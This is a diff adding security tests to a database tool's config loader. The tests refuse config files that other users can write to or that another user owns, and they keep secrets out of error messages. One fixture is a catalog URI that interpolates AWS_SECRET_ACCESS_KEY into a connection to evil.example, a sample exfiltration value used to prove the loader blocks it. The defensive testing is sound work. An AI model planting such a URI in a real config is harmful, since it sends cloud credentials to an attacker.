@@ -140,6 +140,79 @@ def test_an_empty_file_sets_nothing() -> None:
     assert Config().pool == PoolConfig()
 
 
+# --- files in the current folder, which may be anybody's
+
+
+def test_a_file_in_the_current_folder_that_others_can_change_is_not_read() -> None:
+    file = Path("deltasql.toml")
+    for name in ("deltasql.toml", "deltasql.yaml", "deltasql.yml"):
+        file = Path(name)
+        file.write_text("")
+        for mode in (0o664, 0o646, 0o622, 0o666):
+            file.chmod(mode)
+            message = refusal()
+            assert f"{file.absolute()} can be changed by other users" in message
+            assert f"chmod go-w {name}" in message
+        file.chmod(0o644)
+        Config()
+        file.unlink()
+
+
+def test_a_file_in_a_folder_that_everybody_can_change_is_not_read(tmp_path: Path) -> None:
+    Path("deltasql.toml").write_text("[pool]\nmax_size = 3\n")
+    here = tmp_path / "here"
+    here.chmod(0o777)
+    assert "every user can change" in refusal()
+    here.chmod(0o1777)  # others can add files, but not replace this one
+    assert Config().pool.max_size == 3
+    here.chmod(0o755)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
+def test_a_file_or_link_of_another_user_is_not_read(tmp_path: Path) -> None:
+    file = Path("deltasql.toml")
+    file.write_text("[pool]\nmax_size = 3\n")
+    os.chown(file, 12345, -1)
+    assert "belongs to another user" in refusal()
+    os.chown(file, 0, -1)
+    os.chown(tmp_path / "here", 12345, -1)
+    assert "folder of another user" in refusal()
+    os.chown(tmp_path / "here", 0, -1)
+    file.rename("mine.toml")
+    file.symlink_to("mine.toml")
+    assert Config().pool.max_size == 3
+    os.chown(file, 12345, -1, follow_symlinks=False)
+    assert "belongs to another user" in refusal()
+
+
+def test_a_file_in_the_current_folder_cannot_send_variables_away(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    uri = "deltasql://postgres/u:${AWS_SECRET_ACCESS_KEY}@evil.example/lake/meta"
+    forms = {
+        "deltasql.toml": (f'catalog = "{uri}"\n', f'[catalog]\nuri = "{uri}"\n'),
+        "deltasql.yaml": (f"catalog: {uri}\n", f"catalog:\n  uri: {uri}\n"),
+    }
+    for name, texts in forms.items():
+        for text in texts:
+            Path(name).write_text(text)
+            message = refusal()
+            assert f"{name}: catalog.uri refers to an environment variable" in message
+            assert f"--config {name}" in message
+            assert SECRET not in message
+            # whoever names the file means it
+            assert Config.load(name).catalog.uri == parse_uri(uri)
+            with monkeypatch.context() as context:
+                context.setenv("DELTASQL_CONFIG", name)
+                assert Config().catalog.uri == parse_uri(uri)
+        Path(name).unlink()
+    home = tmp_path / "home/.config/deltasql"
+    home.mkdir(parents=True)
+    (home / "config.toml").write_text(f'catalog = "{uri}"\n')
+    assert Config().catalog.uri == parse_uri(uri)
+
+
 # --- wrong settings
 
 
@@ -280,10 +353,26 @@ def test_no_secret_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
         {"catalog": {"uri": [SECRET]}},
         {"catalog": {"password": SECRET}},
         {"password": SECRET},
+        {"service": {"token": [SECRET]}},
+        {"service": {"token_file": {"is": SECRET}}},
+        {"service": SECRET},
+        {"pool": {"max_size": f"postgresql://u:{SECRET}@db"}},
     ],
 )
 def test_no_secret_is_in_an_error(sections: dict[str, object]) -> None:
     assert SECRET not in refusal(**sections)
+
+
+@pytest.mark.parametrize("number", [8675309867530986, 86753.09867530986, -8675309])
+@pytest.mark.parametrize("place", ["service.token", "service.token_file", "catalog.uri", "storage.s3://b"])
+def test_no_secret_of_digits_is_in_an_error(
+    place: str, number: float, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    section, _, key = place.partition(".")
+    assert "8675" not in refusal(**{section: {key: number}})
+    Path("deltasql.toml").write_text(f'[{section}]\n"{key}" = {number}\n')
+    assert "8675" not in refusal()
+    assert "8675" not in refusal(**{section: number})
 
 
 def test_no_line_of_a_broken_file_is_quoted() -> None:
